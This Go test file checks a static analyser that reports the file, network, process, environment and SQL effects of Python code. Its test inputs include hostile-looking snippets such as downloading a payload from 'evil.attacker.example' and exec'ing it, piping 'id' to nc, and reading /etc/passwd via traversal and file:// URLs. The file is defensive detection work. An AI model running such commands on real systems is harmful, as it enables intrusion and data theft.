// SPDX-License-Identifier: Apache-2.0

package python

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-dev/airlock/internal/gate/report"
)

// effects lists what a source does besides importing and computing, as
// "line:column Kind name facts".
func effects(t *testing.T, source string) []string {
	t.Helper()
	r := Read([]byte(source))
	if r.Error != nil {
		return []string{fmt.Sprintf("%d:%d error %s", r.Error.Position.Line, r.Error.Position.Column, r.Error.Message)}
	}
	var out []string
	for _, op := range r.Operations {
		if op.Kind != report.Import && op.Kind != report.Compute {
			out = append(out, describe(op))
		}
	}
	for _, l := range r.Limits {
		out = append(out, "limit "+l)
	}
	return out
}

func describe(op report.Operation) string {
	words := []string{fmt.Sprintf("%d:%d", op.Position.Line, op.Position.Column), string(op.Kind), op.Name}
	for _, f := range []*report.Fact{op.Args.Path, op.Args.Host, op.Args.SQL, op.Args.Env} {
		if f != nil {
			words = append(words, factText(*f))
		}
	}
	for _, f := range op.Args.Argv {
		words = append(words, factText(f))
	}
	return strings.Join(words, " ")
}

func factText(f report.Fact) string {
	switch f.Known {
	case report.Literal:
		return f.Value
	case report.Prefix:
		return f.Value + "…"
	default:
		return "?"
	}
}

func TestEffectsCarryTheirFacts(t *testing.T) {
	for name, tc := range map[string]struct {
		source string
		want   []string
	}{
		"a report over an input file": {
			"import pandas as pd\ndf = pd.read_csv('/inputs/sales.csv')\nout = df.groupby('region')['amount'].sum().sort_values(ascending=False)\n" +
				"out.to_csv('report.csv')\nimport matplotlib.pyplot as plt\nout.plot(kind='bar')\nplt.savefig('./charts/../report.png')\nprint(out.head(10).to_string())\n",
			[]string{"2:6 FileRead pandas.read_csv /inputs/sales.csv", "4:5 FileWrite .to_csv /workspace/report.csv", "7:1 FileWrite matplotlib.pyplot.savefig ?"},
		},
		"deleting outside of the workspace": {
			"import os, shutil\nos.remove('/data/2023/../old.csv')\nshutil.rmtree('/data/archive')\nfrom pathlib import Path\n(Path('/data') / 'x').unlink()\n",
			[]string{"2:1 FileDelete os.remove ?", "3:1 FileDelete shutil.rmtree /data/archive", "5:23 FileDelete .unlink /data/x"},
		},
		"downloading and running a payload": {
			"import urllib.request\ncode = urllib.request.urlopen('http://evil.attacker.example/payload.py').read()\nexec(code)\n",
			[]string{"2:8 Network urllib.request.urlopen evil.attacker.example:80", "3:1 Dynamic exec"},
		},
		"the mode of open decides": {
			"open('/a')\nopen('/b', 'w')\nopen('/c', mode='r+')\nopen('/d', m)\nopen(0)\nm = input()\n",
			[]string{"1:1 FileRead open /a", "2:1 FileWrite open /b", "3:1 FileRead open /c", "3:1 FileWrite open /c", "4:1 FileRead open /d", "4:1 FileWrite open /d"},
		},
		"moving deletes and writes": {
			"import os, shutil\nos.rename('/a', 'b')\nshutil.move(src='/c', dst='/d')\n",
			[]string{"2:1 FileDelete os.rename /a", "2:1 FileWrite os.rename /workspace/b", "3:1 FileDelete shutil.move /c", "3:1 FileWrite shutil.move /d"},
		},
		"copying reads and writes":             {"import shutil as s\ns.copy('/a', '/b')\n", []string{"2:1 FileRead shutil.copy /a", "2:1 FileWrite shutil.copy /b"}},
		"a reader that is given a URL":         {"import pandas as pd\npd.read_csv('https://Example.COM/x.csv')\n", []string{"2:1 Network pandas.read_csv example.com:443"}},
		"a reader that is given anything":      {"import pandas as pd\ndef f(p): return pd.read_csv(p)\n", []string{"2:18 FileRead pandas.read_csv ?", "2:18 Network pandas.read_csv ?"}},
		"a reader that is given an open file":  {"import pandas as pd, io\npd.read_csv(io.StringIO('a'))\nwith open('/x') as f:\n  pd.read_csv(f)\n", []string{"3:6 FileRead open /x"}},
		"a writer that returns a string":       {"import pandas as pd\npd.DataFrame().to_csv()\npd.DataFrame().to_csv(None)\npd.DataFrame().to_string()\n", nil},
		"to_string with a file":                {"import pandas as pd\npd.DataFrame().to_string('/etc/x')\n", []string{"2:16 FileWrite .to_string /etc/x"}},
		"a command and its words":              {"import subprocess\nsubprocess.run(['git', 'log', x])\nx = input()\n", []string{"2:1 Process subprocess.run git log ?"}},
		"a shell command":                      {"import subprocess, os\nsubprocess.check_output('id | nc', shell=True)\nos.system('ls')\n", []string{"2:1 Process subprocess.check_output sh -c id | nc", "3:1 Process os.system sh -c ls"}},
		"a command in a list that changes":     {"import subprocess\nc = ['ls']\nc[0] = 'rm'\nsubprocess.run(c)\n", []string{"4:1 Process subprocess.run ?"}},
		"a command with another executable":    {"import subprocess\nsubprocess.run(['ls'], executable='/bin/sh')\nsubprocess.run(['ls'], -1, '/bin/sh')\n", []string{"2:1 Process subprocess.run ?", "3:1 Process subprocess.run ?"}},
		"exec under a false name":              {"import os\nos.execv('/bin/sh', ['ls', '-l'])\nos.execlp('sh', 'ls', '-c')\n", []string{"2:1 Process os.execv /bin/sh -l", "3:1 Process os.execlp sh -c"}},
		"environment variables by name":        {"import os\nos.environ['A']\nos.environ.get('B')\nos.getenv('C')\nos.environ['D'] = '1'\nprint(os.environ)\n", []string{"2:1 Environment os.environ A", "3:1 Environment os.environ.get B", "4:1 Environment os.getenv C", "5:1 Environment os.environ D", "6:7 Environment os.environ"}},
		"hosts in arguments":                   {"import socket, http.client\nsocket.create_connection(('h', 80))\nhttp.client.HTTPSConnection('H.')\nhttp.client.HTTPConnection('h:8080')\ns = socket.socket()\ns.connect(('::1', 22))\n", []string{"2:1 Network socket.create_connection h:80", "3:1 Network http.client.HTTPSConnection h:443", "4:1 Network http.client.HTTPConnection h:8080", "5:5 Network socket.socket ?", "6:3 Network .connect [::1]:22"}},
		"a request made before it is sent":     {"import urllib.request as u\nr = u.Request('http://a/x', method='POST')\nu.urlopen(r)\n", []string{"2:5 Network urllib.request.Request a:80", "3:1 Network urllib.request.urlopen a:80"}},
		"a file behind a URL":                  {"import urllib.request as u\nu.urlopen('file:///etc/passwd')\nu.urlopen('FILE:/etc/passwd')\n", []string{"2:1 FileRead urllib.request.urlopen /etc/passwd", "3:1 Network urllib.request.urlopen ?", "3:1 FileRead urllib.request.urlopen ?"}},
		"downloading to a file":                {"import urllib.request as u\nu.urlretrieve('http://a/x', '/etc/x')\n", []string{"2:1 Network urllib.request.urlretrieve a:80", "2:1 FileWrite urllib.request.urlretrieve /etc/x"}},
		"SQL text":                             {"import sqlite3\nc = sqlite3.connect('x.db').cursor()\nc.execute('DROP TABLE t')\n", []string{"2:5 FileRead sqlite3.connect /workspace/x.db", "2:5 FileWrite sqlite3.connect /workspace/x.db", "3:3 SQL .execute DROP TABLE t"}},
		"temporary files":                      {"import tempfile\ntempfile.mkdtemp()\ntempfile.NamedTemporaryFile('w', suffix='.csv', delete=False)\ntempfile.mkstemp(prefix='../etc/x')\ntempfile.mkdtemp(dir='/etc')\n", []string{"2:1 FileWrite tempfile.mkdtemp /tmp/tmpXXXXXXXX", "3:1 FileWrite tempfile.NamedTemporaryFile /tmp/tmpXXXXXXXX", "4:1 FileWrite tempfile.mkstemp ?", "5:1 FileWrite tempfile.mkdtemp /etc"}},
		"globs read their directory":           {"import glob\nglob.glob('/inputs/*.csv')\nglob.glob('*.csv')\nglob.glob('/a/b*/../../etc/*')\n", []string{"2:1 FileRead glob.glob /inputs", "3:1 FileRead glob.glob /workspace", "4:1 FileRead glob.glob ?"}},
		"archives":                             {"import zipfile\nz = zipfile.ZipFile('/inputs/a.zip')\nz.extractall('/etc')\n", []string{"2:5 FileRead zipfile.ZipFile /inputs/a.zip", "3:3 FileWrite .extractall ?"}},
		"numpy loads pickles only when told":   {"import numpy as np\nnp.load('a.npy')\nnp.load('a.npy', None, True)\nnp.load('a.npy', **k)\nk = {}\n", []string{"2:1 FileRead numpy.load /workspace/a.npy", "3:1 FileRead numpy.load /workspace/a.npy", "3:1 Dynamic numpy.load", "4:1 FileRead numpy.load ?", "4:1 Dynamic numpy.load"}},
		"standard streams are not files":       {"import sys\nprint('x', file=sys.stderr)\nsys.stdout.write(input())\n", nil},
		"logging to a file, and not":           {"import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.basicConfig(filename='/var/log/x')\n", []string{"3:1 FileWrite logging.basicConfig /var/log/x"}},
		"relative paths after changing places": {"import os\nos.chdir('/etc')\nopen('passwd')\nopen('/a')\n", []string{"2:1 Environment os.chdir /etc", "3:1 FileRead open ?", "4:1 FileRead open /a"}},
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, effects(t, tc.source)); diff != "" {
				t.Errorf("effects (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPathsAreFolded(t *testing.T) {
	for name, tc := range map[string]struct{ source, want string }{
		"a constant":                                   {"p = '/etc/' 'passwd'\nopen(p)", "/etc/passwd"},
		"a sum":                                        {"d = '/etc'\nopen(d + '/' + 'passwd')", "/etc/passwd"},
		"an f-string":                                  {"d = '/etc'\nopen(f'{d}/passwd')", "/etc/passwd"},
		"an f-string with an unknown end":              {"open(f'/tmp/{input()}')", "/tmp/…"},
		"a format with an unknown end":                 {"open('/tmp/{}'.format(input()))", "/tmp/…"},
		"a percent with an unknown end":                {"open('/tmp/%s' % input())", "/tmp/…"},
		"a formatted width is not the text":            {"d = '/etc'\nopen(f'{d!r}')", "?"},
		"an unknown start":                             {"open(input() + '/x')", "?"},
		"os.path.join":                                 {"import os\nopen(os.path.join('/inputs', 'a', 'b.csv'))", "/inputs/a/b.csv"},
		"os.path.join with an absolute part":           {"import os\nopen(os.path.join('/inputs', '/etc/passwd'))", "/etc/passwd"},
		"os.path.join with an unknown part":            {"import os\nopen(os.path.join('/inputs', input()))", "?"},
		"pathlib with an unknown part":                 {"from pathlib import Path\nopen(Path('/inputs') / input())", "?"},
		"pathlib, its parent and joinpath":             {"from pathlib import Path\nopen(Path('/inputs/a').parent.joinpath('b'))", "/inputs/b"},
		"climbing out of the workspace":                {"open('../../etc/passwd')", "?"},
		"climbing out behind an allowed prefix":        {"open('/workspace/../etc/passwd')", "?"},
		"a name that is bound twice":                   {"p = '/tmp/x'\nif input(): p = '/etc/passwd'\nopen(p)", "?"},
		"a name that another function sets":            {"p = '/tmp/x'\ndef f():\n  global p\n  p = input()\nopen(p)", "?"},
		"a name that a loop sets":                      {"p = '/tmp/x'\nfor p in input(): pass\nopen(p)", "?"},
		"a name that a walrus sets in a comprehension": {"p = '/tmp/x'\n[p := q for q in input()]\nopen(p)", "?"},
		"a name that an import shadows":                {"p = '/tmp/x'\nimport math as p\nopen(p)", "?"},
		"an augmented name":                            {"p = '/tmp/x'\np += input()\nopen(p)", "?"},
		"a name that refers to itself":                 {"p = q\nq = p\nopen(p)", "?"},
		"an escape that is not resolved":               {"open('\\N{SOLIDUS}etc/passwd')", "?"},
		"an escape that hides a slash":                 {"open('\\x2fetc/passwd')", "/etc/passwd"},
		"a reflected operator that returns any path":   {"class E:\n  def __radd__(self, o): return '/etc/passwd'\nopen('/tmp/' + E())", "?"},
		"a NUL in a path":                              {"open('/tmp/x\\0')", "?"},
		"a starred argument":                           {"open(*['/tmp/x'])", "?"},
		"a keyword argument":                           {"open(file='/tmp/x')", "/tmp/x"},
		"keywords from a dictionary":                   {"open(**{'file': '/etc/passwd'})", "?"},
		"a parameter whose default is used":            {"def f(p='/tmp/x'): open(p)\nf()", "/tmp/x"},
		"a parameter that its only call gives":         {"def f(a, *, p='/tmp/x'): open(p)\ndef g(q): f(1, p=q)\ng('/etc/passwd')", "/etc/passwd"},
		"a parameter of two calls":                     {"def f(p): open(p)\nf('/tmp/x')\nf('/etc/passwd')", "?"},
		"a parameter that is set again":                {"def f(p):\n  p += input()\n  open(p)\nf('/tmp/x')", "?"},
		"a parameter of a function used as a value":    {"def f(p): open(p)\nf('/tmp/x')\nlist(map(f, input()))", "?"},
		"a parameter of a decorated function":          {"def d(g): return lambda p: g('/etc/passwd')\n@d\ndef f(p): open(p)\nf('/tmp/x')", "?"},
		"a parameter of a method":                      {"class A:\n  def f(self, p): open(p)\nA().f('/tmp/x')", "?"},
		"a parameter given by a starred argument":      {"def f(p): open(p)\nf(*input())", "?"},
		"a parameter behind a starred one":             {"def f(*a, p='/tmp/x'): open(p)\nf(1, '/etc/passwd')", "/tmp/x"},
		"a parameter of a function that is redefined":  {"def f(p): open(p)\nf('/tmp/x')\ndef f(p): pass", "?"},
		"a parameter of a function that is recursive":  {"def f(p):\n  open(p)\n  f(p + 'x')\nf('/tmp/x')", "?"},
		"a parameter of a function that is never used": {"def f(p='/tmp/x'): open(p)", "?"},
		"a parameter of a function that globals names": {"def f(p): open(p)\nf('/tmp/x')\nfor g in [f]: g('/etc/passwd')", "?"},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, op := range Read([]byte(tc.source)).Operations {
				if op.Name == "open" && op.Kind == report.FileRead {
					got = append(got, factText(*op.Args.Path))
				}
			}
			if diff := cmp.Diff([]string{tc.want}, got); diff != "" {
				t.Errorf("path (-want +got):\n%s", diff)
			}
		})
	}
}

func TestReportOfASource(t *testing.T) {
	r := Read([]byte("import pandas as pd\n\ndéjà = pd.read_csv(\n  '/inputs/a')\n"))
	want := []report.Operation{
		{
			Language: report.Python, Kind: report.Import, Form: report.FormImport, Name: "pandas",
			Position: report.Position{Line: 1, Column: 8, EndLine: 1, EndColumn: 20}, Snippet: "pandas as pd",
		},
		{
			Language: report.Python, Kind: report.FileRead, Form: report.FormCall, Name: "pandas.read_csv",
			Args:     report.Args{Path: &report.Fact{Known: report.Literal, Value: "/inputs/a"}},
			Position: report.Position{Line: 3, Column: 8, EndLine: 4, EndColumn: 15}, Snippet: "pd.read_csv(…", Via: []string{"pd"},
		},
	}
	if diff := cmp.Diff(want, r.Operations); diff != "" {
		t.Errorf("operations (-want +got):\n%s", diff)
	}
	if r.Parser != Parser || r.Tables != Tables() || !strings.Contains(r.Tables, "pandas 1.5.3") {
		t.Errorf("parser %q and tables %q do not say what was used", r.Parser, r.Tables)
	}
}

func TestAliasesAreNamed(t *testing.T) {
	source := "import os as o\nx = o\ny = x.remove\ny('/a')\n"
	for _, op := range Read([]byte(source)).Operations {
		if op.Kind == report.FileDelete {
			if diff := cmp.Diff([]string{"y", "x", "o"}, op.Via); diff != "" {
				t.Errorf("via (-want +got):\n%s", diff)
			}
			return
		}
	}
	t.Error("the removal behind three aliases was not found")
}

func inWorkspace(path string) bool {
	for _, dir := range []string{"/workspace", "/tmp", "/inputs"} {
		if path == dir || strings.HasPrefix(path, dir+"/") {
			return true
		}
	}
	return false
}
